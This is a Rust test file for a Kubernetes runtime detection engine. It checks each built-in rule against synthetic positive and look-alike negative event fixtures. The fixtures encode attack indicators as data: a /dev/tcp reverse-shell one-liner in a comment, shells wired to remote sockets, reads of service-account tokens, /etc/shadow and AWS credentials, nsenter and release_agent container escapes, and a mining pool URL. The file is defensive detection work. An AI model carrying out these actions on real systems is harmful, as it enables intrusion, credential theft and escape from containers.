//! Every built-in rule fires on a fixture of its attack and stays quiet on a
//! look-alike; fixtures are model events through the lake's own builders.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "test code")]

use std::collections::BTreeSet;
use std::path::Path;
use std::time::{SystemTime, UNIX_EPOCH};

use tracelake_model::Kind;

use crate::builtin;
use crate::engine::{RuleEngine, check};
use crate::fixtures::{CONTAINER_ID, Script, Std, batches, context};
use crate::rule::Rule;

const SHIM: (&str, &str) =
    ("/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2\0-namespace\0k8s.io\0-id\0abc\0");
const RUNC_EXEC: (&str, &str) =
    ("/usr/sbin/runc", "runc\0--root\0/run/containerd/runc/k8s.io\0exec\0--process\0/tmp/p.json\0--detach\0abc\0");
const RUNC_INIT: (&str, &str) = ("/usr/sbin/runc", "runc\0init\0");
const EXEC_LINEAGE: &[(&str, &str)] = &[RUNC_EXEC, SHIM];
const ENTRY_LINEAGE: &[(&str, &str)] = &[RUNC_INIT, SHIM];
const SH: &[(&str, &str)] = &[("/bin/sh", "sh\0-c\0run\0"), SHIM];

const O_WRONLY: u32 = 1;
const O_TRUNC: u32 = 0o1000;

/// A minute boundary a minute ago: fixture times (ktime 1 s + ms) never straddle a minute of `date_bin`.
fn base() -> i128 {
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos() as i128;
    now - now % 60_000_000_000 - 60_000_000_000
}

/// Rule ids the whole built-in pack reports for a script.
fn fired(script: &Script) -> BTreeSet<String> {
    let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
    rt.block_on(async {
        let mut engine = RuleEngine::new(builtin::rules().unwrap()).await.unwrap();
        let ctx = context(base());
        let round = engine.evaluate(batches(&ctx, &script.events).unwrap()).await;
        assert!(round.errors.is_empty(), "{:?}", round.errors);
        for f in &round.findings {
            if f.get("container_id").is_some() {
                // The identity chain travels with the finding.
                assert_eq!(f.get("container_id"), Some(CONTAINER_ID), "{f:?}");
                assert_eq!(f.get("pod"), Some("api-7d9f-x2"));
                assert_eq!(f.get("namespace"), Some("payments"));
                assert_eq!(f.get("workload"), Some("api"));
                assert_eq!(f.get("node"), Some("node-1"));
            }
            assert!(!f.event_ids.is_empty(), "{f:?}");
            assert!(f.event_ids.iter().all(|id| id.len() == 16), "{f:?}");
        }
        round.findings.iter().map(|f| f.rule_id.clone()).collect()
    })
}

/// `rule` fires on `yes` and not on `no`.
fn case(rule: &str, yes: impl FnOnce(&mut Script), no: impl FnOnce(&mut Script)) {
    let mut s = Script::new();
    yes(&mut s);
    let got = fired(&s);
    assert!(got.contains(rule), "{rule} did not fire on its positive fixture; fired: {got:?}");
    let mut s = Script::new();
    no(&mut s);
    let got = fired(&s);
    assert!(!got.contains(rule), "{rule} fired on its negative fixture; fired: {got:?}");
}

#[test]
fn builtin_rules_parse_and_plan() {
    let rules = builtin::rules().unwrap();
    assert!(rules.len() >= 20);
    let ids: BTreeSet<_> = rules.iter().map(|r| r.id.clone()).collect();
    assert_eq!(ids.len(), rules.len(), "rule ids are unique");
    let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
    for r in &rules {
        rt.block_on(check(r)).unwrap();
    }
}

#[test]
fn builtin_list_matches_the_directory() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    let mut on_disk: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".sql"))
        .collect();
    on_disk.sort();
    let embedded: Vec<String> = builtin::RULES.iter().map(|(n, _)| (*n).to_string()).collect();
    assert_eq!(on_disk, embedded);
    let loaded = Rule::load_dir(&dir).unwrap();
    assert!(loaded.iter().all(Result::is_ok));
}

#[test]
fn broken_rule_errors_name_file_and_line() {
    let good = builtin::RULES[0].1;
    let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
    // A SQL syntax error on the 3rd line of the query.
    let bad = good.replace("AND container_id IS NOT NULL", "AND container_id IS NOT NULL AND (");
    let r = Rule::parse(Path::new("my/shell.sql"), &bad).unwrap();
    let e = rt.block_on(check(&r)).unwrap_err().to_string();
    assert!(e.starts_with(&format!("my/shell.sql:{}:", r.sql_line + 3)) || e.starts_with("my/shell.sql:"), "{e}");
    assert!(e.contains("SQL"), "{e}");
    // An unknown column, located by DataFusion's span, with the columns that exist.
    let bad = good.replace("AND comm IN", "AND commm IN");
    let r = Rule::parse(Path::new("my/shell.sql"), &bad).unwrap();
    let e = rt.block_on(check(&r)).unwrap_err().to_string();
    assert!(e.starts_with(&format!("my/shell.sql:{}:", r.sql_line + 3)), "{e}");
    assert!(e.contains("commm") && e.contains("process_activity columns: time, event_id"), "{e}");
    // A table the header does not declare.
    let bad = good.replace("FROM process_activity", "FROM file_activity");
    let r = Rule::parse(Path::new("my/shell.sql"), &bad).unwrap();
    let e = rt.block_on(check(&r)).unwrap_err().to_string();
    assert!(e.contains("file_activity") && e.contains("tables declared"), "{e}");
    // Output without the columns a finding needs.
    let bad = good.replace("SELECT *", "SELECT pid");
    let r = Rule::parse(Path::new("my/shell.sql"), &bad).unwrap();
    let e = rt.block_on(check(&r)).unwrap_err().to_string();
    assert!(e.contains("no column \"time\""), "{e}");
    // Not a query.
    let bad = format!("{}DROP TABLE process_activity", &good[..good.find("SELECT").unwrap()]);
    let r = Rule::parse(Path::new("my/shell.sql"), &bad).unwrap();
    assert!(rt.block_on(check(&r)).is_err());
}

#[test]
fn shell_in_container() {
    case(
        "TL-K8S-001",
        |s| {
            s.exec(100, "/bin/busybox", &["sh", "-c", "id"]).lineage(SH);
        },
        |s| {
            s.exec(100, "/bin/busybox", &["sh", "-c", "id"]).lineage(SH).on_host();
            s.exec(101, "/usr/bin/python3", &["python3", "app.py"]);
        },
    );
}

#[test]
fn exec_into_container() {
    case(
        "TL-K8S-002",
        |s| {
            s.exec(200, "/bin/cat", &["cat", "/etc/hostname"]).lineage(EXEC_LINEAGE);
        },
        |s| {
            // The entrypoint, started by runc init, and a child of an exec'd shell.
            s.exec(200, "/app/server", &["/app/server"]).lineage(ENTRY_LINEAGE);
            s.exec(201, "/bin/cat", &["cat", "x"]).lineage(&[("/bin/sh", "sh\0"), RUNC_EXEC, SHIM]);
        },
    );
}

#[test]
fn ssh_server_in_container() {
    case(
        "TL-K8S-003",
        |s| {
            s.exec(300, "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"]);
        },
        |s| {
            s.exec(300, "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"]).on_host();
            s.exec(301, "/usr/bin/ssh", &["ssh", "git@example.com"]);
        },
    );
}

#[test]
fn package_manager_and_compiler_in_container() {
    case(
        "TL-K8S-004",
        |s| {
            s.exec(400, "/usr/bin/apt-get", &["apt-get", "install", "-y", "nmap"]);
        },
        |s| {
            s.exec(400, "/usr/bin/apt-get", &["apt-get", "update"]).on_host();
        },
    );
    case(
        "TL-K8S-005",
        |s| {
            s.exec(401, "/usr/bin/gcc", &["gcc", "-o", "/tmp/x", "/tmp/x.c"]);
        },
        |s| {
            s.exec(401, "/usr/bin/gcc", &["gcc", "-o", "/tmp/x", "/tmp/x.c"]).on_host();
            s.exec(402, "/usr/bin/gccgo-helper", &["gccgo-helper"]);
        },
    );
}

#[test]
fn service_account_token_and_secrets() {
    case(
        "TL-K8S-006",
        |s| {
            s.file(Kind::FileOpen, 500, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0);
        },
        |s| {
            s.file(Kind::FileOpen, 500, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", 0);
            s.file(Kind::FileOpen, 501, "kubelet", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0).on_host();
        },
    );
    case(
        "TL-K8S-007",
        |s| {
            s.file(Kind::FileOpen, 502, "cat", "/etc/shadow", 0);
            s.file(Kind::FileOpen, 503, "python3", "/root/.aws/credentials", 0);
        },
        |s| {
            s.file(Kind::FileOpen, 502, "cat", "/etc/passwd", 0);
            s.file(Kind::FileOpen, 503, "sshd", "/etc/shadow", 0).on_host();
        },
    );
}

#[test]
fn kubernetes_api_kubelet_and_metadata() {
    case(
        "TL-K8S-008",
        |s| {
            s.connect(600, "curl", "10.96.0.1", 443);
        },
        |s| {
            s.connect(600, "curl", "10.96.4.17", 443);
            s.connect(601, "kubelet", "10.0.0.10", 6443).on_host();
        },
    );
    case(
        "TL-K8S-009",
        |s| {
            s.connect(602, "curl", "10.0.0.12", 10250);
        },
        |s| {
            s.connect(602, "curl", "10.0.0.12", 10251);
        },
    );
    case(
        "TL-K8S-010",
        |s| {
            s.connect(603, "curl", "169.254.169.254", 80);
        },
        |s| {
            s.connect(603, "curl", "169.254.169.253", 80);
            s.connect(604, "agent", "169.254.169.254", 80).on_host();
        },
    );
}

#[test]
fn network_scan() {
    case(
        "TL-K8S-011",
        |s| {
            for i in 1..=25u8 {
                let ip = format!("10.244.3.{i}");
                s.connect(700, "nmap", Box::leak(ip.into_boxed_str()), 22);
            }
        },
        |s| {
            // Many connects, few peers: a client pool.
            for _ in 0..50 {
                s.connect(700, "java", "10.244.3.1", 5432);
                s.connect(700, "java", "10.244.3.2", 5432);
            }
        },
    );
}

#[test]
fn reverse_shell() {
    // Positive: nc -e / a connect-and-dup2 program: the shell starts on the socket.
    case(
        "TL-K8S-012",
        |s| {
            s.exec(800, "/bin/busybox", &["sh"]).lineage(SH).stdio([
                Std::Tcp("203.0.113.9", 4242),
                Std::Tcp("203.0.113.9", 4242),
                Std::Tcp("203.0.113.9", 4242),
            ]);
        },
        |s| {
            // The old approximation's false positive: a shell (on pipes) and a connect of the same process.
            s.connect(800, "nc", "203.0.113.9", 4242);
            s.exec(800, "/bin/busybox", &["sh"]).lineage(SH).stdio([Std::Pipe, Std::Pipe, Std::Pipe]);
        },
    );
    // Positive: a socket inherited from a parent that never connected in this window (accepted, or made
    // before the sensor started), over IPv6; stderr elsewhere.
    case(
        "TL-K8S-012",
        |s| {
            s.exec(801, "/bin/bash", &["bash", "-i"]).lineage(ENTRY_LINEAGE).stdio([
                Std::Tcp("2001:db8::7", 443),
                Std::Tcp("2001:db8::7", 443),
                Std::Null,
            ]);
        },
        |s| {
            // An interactive shell on a terminal (kubectl exec -it): not on a socket.
            s.exec(801, "/bin/bash", &["bash", "-i"]).lineage(EXEC_LINEAGE).terminal(0).stdio([
                Std::Pts(0),
                Std::Pts(0),
                Std::Pts(0),
            ]);
        },
    );
    // Positive: what is typed into `bash -i >& /dev/tcp/h/p 0>&1` (the shell opened the socket itself after
    // its exec, its commands inherit it). Negative: a /dev/tcp health check, whose commands get the socket
    // on one side only, and a shell with a pipe for stdin.
    const DEV_TCP_SHELL: &[(&str, &str)] = &[("/bin/bash", "bash\0-i\0"), SHIM];
    const HEALTH_CHECK: &[(&str, &str)] =
        &[("/bin/sh", "sh\0-c\0exec 3<>/dev/tcp/127.0.0.1/8080; printf 'GET /healthz' >&3; cat <&3\0"), SHIM];
    case(
        "TL-K8S-012",
        |s| {
            s.exec(802, "/usr/bin/id", &["id"]).lineage(DEV_TCP_SHELL).stdio([
                Std::Tcp("198.51.100.4", 9001),
                Std::Tcp("198.51.100.4", 9001),
                Std::Tcp("198.51.100.4", 9001),
            ]);
        },
        |s| {
            s.exec(802, "/bin/cat", &["cat"]).lineage(HEALTH_CHECK).stdio([
                Std::Tcp("127.0.0.1", 8080),
                Std::Pipe,
                Std::Pipe,
            ]);
            s.exec(803, "/bin/busybox", &["sh", "-c", "read x; echo $x"]).lineage(SH).stdio([
                Std::Pipe,
                Std::Tcp("10.0.0.5", 5000),
                Std::Pipe,
            ]);
            // A shell on a UNIX socket pair (a supervisor's): no IP peer.
            s.exec(804, "/bin/busybox", &["sh"]).lineage(SH).stdio([Std::Unix, Std::Unix, Std::Unix]);
        },
    );
}

#[test]
fn escape_signals() {
    case(
        "TL-K8S-013",
        |s| {
            s.syscall(Kind::Setns, 900, "nsenter", [3, 0x2000_0000, 0, 0, 0, 4026531840], ["", "", ""]);
        },
        |s| {
            s.syscall(Kind::Setns, 900, "runc:[2:INIT]", [3, 0, 0, 0, 0, 1], ["", "", ""]).exe("/usr/sbin/runc");
        },
    );
    case(
        "TL-K8S-014",
        |s| {
            s.exec(901, "/usr/bin/nsenter", &["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"]);
        },
        |s| {
            s.exec(901, "/usr/bin/nsenter", &["nsenter", "-t", "1", "-m", "sh"]).on_host();
        },
    );
    case(
        "TL-K8S-015",
        |s| {
            s.syscall(Kind::Mount, 902, "mount", [0, 0, 0, 0, 0, 0], ["/dev/sda1", "/mnt/host", "ext4"]);
        },
        |s| {
            s.syscall(Kind::Mount, 902, "mount", [0, 0, 0, 0, 0, 0], ["tmpfs", "/tmp/x", "tmpfs"]);
            s.syscall(Kind::Mount, 903, "runc:[1:CHILD]", [0; 6], ["/dev/sda1", "/rootfs", "ext4"]);
        },
    );
    case(
        "TL-K8S-016",
        |s| {
            s.file(Kind::FileOpen, 904, "sh", "/sys/fs/cgroup/rdma/release_agent", O_WRONLY);
        },
        |s| {
            s.file(Kind::FileOpen, 904, "cat", "/sys/fs/cgroup/rdma/release_agent", 0);
        },
    );
    case(
        "TL-K8S-017",
        |s| {
            s.connect_unix(905, "docker", "/var/run/docker.sock");
        },
        |s| {
            s.connect_unix(905, "app", "/tmp/app.sock");
        },
    );
    case(
        "TL-K8S-018",
        |s| {
            s.syscall(Kind::Ptrace, 906, "gdb", [16, 1, 0, 0, 0, 0], ["", "", ""]);
        },
        |s| {
            // PTRACE_TRACEME (0): a process asking to be traced.
            s.syscall(Kind::Ptrace, 906, "app", [0, 0, 0, 0, 0, 0], ["", "", ""]);
        },
    );
    case(
        "TL-K8S-019",
        |s| {
            s.syscall(Kind::ModuleLoad, 907, "insmod", [0; 6], ["", "", ""]);
        },
        |s| {
            s.syscall(Kind::Bpf, 907, "bpftool", [0; 6], ["", "", ""]);
        },
    );
}

#[test]
fn log_clearing_and_mass_deletion() {
    case(
        "TL-K8S-020",
        |s| {
            s.file(Kind::FileUnlink, 1000, "rm", "/var/log/auth.log", 0);
            s.file(Kind::FileOpen, 1001, "sh", "/var/log/syslog", O_WRONLY | O_TRUNC);
        },
        |s| {
            s.file(Kind::FileUnlink, 1000, "logrotate", "/var/log/auth.log.4.gz", 0);
            s.file(Kind::FileOpen, 1001, "app", "/var/log/app.log", O_WRONLY);
        },
    );
    case(
        "TL-K8S-021",
        |s| {
            // One event, then a kernel summary folding 149 more.
            s.file(Kind::FileUnlink, 1002, "rm", "/data/a", 0);
            s.file(Kind::FileUnlink, 1002, "rm", "/data/b", 0).count(149);
        },
        |s| {
            for _ in 0..20 {
                s.file(Kind::FileUnlink, 1002, "rm", "/tmp/cache", 0);
            }
        },
    );
}

#[test]
fn crypto_mining() {
    case(
        "TL-K8S-022",
        |s| {
            s.exec(1100, "/tmp/.x/kworker", &["kworker", "-o", "stratum+tcp://pool.example:3333", "-u", "w"]);
        },
        |s| {
            s.exec(1100, "/usr/bin/python3", &["python3", "-m", "http.server"]);
        },
    );
    case(
        "TL-K8S-023",
        |s| {
            s.connect(1101, "kworker", "198.51.100.7", 14444);
        },
        |s| {
            s.connect(1101, "app", "198.51.100.7", 14443);
        },
    );
}

#[test]
fn fileless_execution() {
    case(
        "TL-K8S-024",
        |s| {
            s.exec(1200, "/memfd:x (deleted)", &["x"]).flags(tracelake_model::flags::EXE_MEMFD);
        },
        |s| {
            s.exec(1200, "/usr/bin/x", &["x"]);
            s.exec(1201, "/memfd:runc_cloned:/proc/self/exe (deleted)", &["runc:[1:CHILD]"])
                .flags(tracelake_model::flags::EXE_MEMFD);
        },
    );
}

#[test]
fn nodeport_from_pod() {
    case(
        "TL-K8S-025",
        |s| {
            s.connect(1300, "curl", "10.0.0.12", 30080);
        },
        |s| {
            s.connect(1300, "curl", "10.0.0.12", 8080);
            s.connect(1301, "curl", "10.0.0.12", 32768);
            s.connect(1302, "curl", "10.0.0.12", 30080).on_host();
        },
    );
}

#[test]
fn findings_are_suppressed_within_the_window_and_rows_have_the_lake_schema() {
    let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
    rt.block_on(async {
        let rules = builtin::rules().unwrap();
        let mut engine = RuleEngine::new(rules.clone()).await.unwrap();
        let ctx = context(base());
        let mut s = Script::new();
        s.file(Kind::FileOpen, 500, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0);
        let first = engine.evaluate(batches(&ctx, &s.events).unwrap()).await;
        assert_eq!(first.findings.len(), 1, "{:?}", first.findings);
        // The same process reading it again a second later: suppressed.
        let mut s2 = Script::new();
        s2.wait_ms(1000);
        s2.file(Kind::FileOpen, 500, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0);
        let again = engine.evaluate(batches(&ctx, &s2.events).unwrap()).await;
        assert!(again.findings.is_empty(), "{:?}", again.findings);
        assert_eq!(engine.suppressed(), 1);
        let batch = crate::findings_batch(engine.rules(), &first.findings).unwrap();
        assert_eq!(batch.schema(), tracelake_sinks::parquet::Table::DetectionFinding.schema());
        assert_eq!(batch.num_rows(), 1);
        let f = &first.findings[0];
        assert_eq!(f.rule_id, "TL-K8S-006");
        assert_eq!(f.get("exe"), None, "no process table entry in the fixture");
    });
}

#[test]
fn windowed_rules_see_earlier_batches() {
    let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
    rt.block_on(async {
        let mut engine = RuleEngine::new(builtin::rules().unwrap()).await.unwrap();
        let ctx = context(base());
        let mut total = Vec::new();
        // A scan spread over 5 batches of 5 peers: no batch alone reaches 20 peers.
        for round in 0..5u8 {
            let mut s = Script::new();
            s.wait_ms(u64::from(round) * 100);
            for i in 0..5u8 {
                let ip = format!("10.244.9.{}", round * 5 + i + 1);
                s.connect(700, "nmap", Box::leak(ip.into_boxed_str()), 22);
            }
            let r = engine.evaluate(batches(&ctx, &s.events).unwrap()).await;
            total.extend(r.findings.into_iter().map(|f| f.rule_id));
        }
        // Rounds in quick succession: the windowed rule may wait for its cadence; the flush reads the rest.
        total.extend(engine.flush().await.findings.into_iter().map(|f| f.rule_id));
        assert!(total.iter().filter(|r| *r == "TL-K8S-011").count() == 1, "{total:?}");
    });
}

/// A windowed rule's window holds only the rows its own filter lets through: a benign stream of file opens
/// and UNIX connects stages nothing, and each TCP connect is held once by each rule that reads it.
#[test]
fn windowed_rules_keep_only_the_rows_their_filter_lets_through() {
    let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
    rt.block_on(async {
        let mut engine = RuleEngine::new(builtin::rules().unwrap()).await.unwrap();
        let ctx = context(base());
        let mut s = Script::new();
        for i in 0..10 {
            s.file(Kind::FileOpen, 300 + i, "python3", "/etc/hosts", 0).lineage(ENTRY_LINEAGE);
            s.connect_unix(300 + i, "python3", "/run/app.sock").lineage(ENTRY_LINEAGE);
            s.exec(300 + i, "/usr/bin/python3", &["python3", "app.py"]).lineage(ENTRY_LINEAGE);
        }
        let r = engine.evaluate(batches(&ctx, &s.events).unwrap()).await;
        assert!(r.errors.is_empty(), "{:?}", r.errors);
        assert_eq!(engine.window_rows_held(), 0);
        let mut s = Script::new();
        for i in 0..3 {
            s.connect(400 + i, "curl", "10.244.3.3", 443).lineage(ENTRY_LINEAGE);
        }
        s.exec(410, "/bin/sh", &["sh", "-c", "id"]).lineage(SH);
        engine.evaluate(batches(&ctx, &s.events).unwrap()).await;
        // Network scan holds the 3 connects (the reverse shell rule reads the exec alone: no window).
        assert_eq!(engine.window_rows_held(), 3);
        assert_eq!(engine.window_rows_dropped(), 0);
    });
}

/// The row bound of a window lets the oldest batches go and counts them.
#[test]
fn windowed_rules_bound_their_rows_and_count_what_left_early() {
    let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
    rt.block_on(async {
        let rules: Vec<Rule> = builtin::rules().unwrap().into_iter().filter(|r| r.id == "TL-K8S-011").collect();
        let mut engine = RuleEngine::new(rules).await.unwrap();
        engine.set_window_rows(4);
        let ctx = context(base());
        for round in 0..3u32 {
            let mut s = Script::new();
            for i in 0..3 {
                s.connect(500 + round * 10 + i, "curl", "10.244.3.3", 443).lineage(ENTRY_LINEAGE);
            }
            engine.evaluate(batches(&ctx, &s.events).unwrap()).await;
        }
        assert_eq!(engine.window_rows_held(), 3);
        assert_eq!(engine.window_rows_dropped(), 6);
    });
}

/// Every built-in rule has a `case` above (a positive and a negative fixture): a rule added to the pack
/// without one fails here.
#[test]
fn every_builtin_rule_has_a_positive_and_a_negative_case() {
    let src = include_str!("tests.rs");
    let cased: BTreeSet<&str> = src
        .split("case(")
        .skip(1)
        .filter_map(|rest| {
            let rest = rest.trim_start().strip_prefix('"')?;
            rest.split('"').next()
        })
        .collect();
    let ids: BTreeSet<String> = builtin::rules().unwrap().into_iter().map(|r| r.id).collect();
    let missing: Vec<&String> = ids.iter().filter(|id| !cased.contains(id.as_str())).collect();
    assert!(missing.is_empty(), "built-in rules without a positive/negative case: {missing:?}");
    assert!(cased.len() >= 25, "{cased:?}");
}

/// A finding whose event came before the runtime lookup answered gets the pod when it is handed on; what the
/// event knew is kept, and complete findings are not touched.
#[test]
fn completing_sinks_fill_only_what_the_event_lacked() {
    use std::sync::{Arc, Mutex};

    use crate::finding::Finding;
    use crate::live::{CompletingSinks, FindingSink};

    struct Keep(Arc<Mutex<Vec<Finding>>>);
    impl FindingSink for Keep {
        fn findings(&mut self, _: &[Rule], findings: &[Finding]) {
            self.0.lock().unwrap().extend_from_slice(findings);
        }
    }
    let seen = Arc::new(Mutex::new(Vec::new()));
    let calls = Arc::new(Mutex::new(0));
    let counted = Arc::clone(&calls);
    let complete = Box::new(move |f: &mut Finding| {
        *counted.lock().unwrap() += 1;
        f.fill("pod", Some("api-0"));
        f.fill("namespace", Some("payments"));
        f.fill("node", Some("not-this-one"));
    });
    let mut sink = CompletingSinks::new(complete, vec![Box::new(Keep(Arc::clone(&seen)))]);
    let mut partial = Finding {
        rule: 0,
        rule_id: "TL-K8S-002".into(),
        time_ns: 1,
        event_ids: vec!["e1".into()],
        identity: Default::default(),
        pid: Some(7),
        key: "k".into(),
        message: "m".into(),
    };
    partial.fill("node", Some("node-1"));
    partial.fill("container_id", Some("c1"));
    let mut whole = partial.clone();
    whole.fill("pod", Some("web-0"));
    let host = Finding { identity: Default::default(), ..partial.clone() };
    sink.findings(&[], &[partial, whole, host]);
    let seen = seen.lock().unwrap();
    assert_eq!(*calls.lock().unwrap(), 1, "only the container finding without a pod is completed");
    assert_eq!(
        (seen[0].get("pod"), seen[0].get("namespace"), seen[0].get("node")),
        (Some("api-0"), Some("payments"), Some("node-1"))
    );
    assert_eq!((seen[1].get("pod"), seen[1].get("namespace")), (Some("web-0"), None));
    assert_eq!(seen[2].get("pod"), None);
}
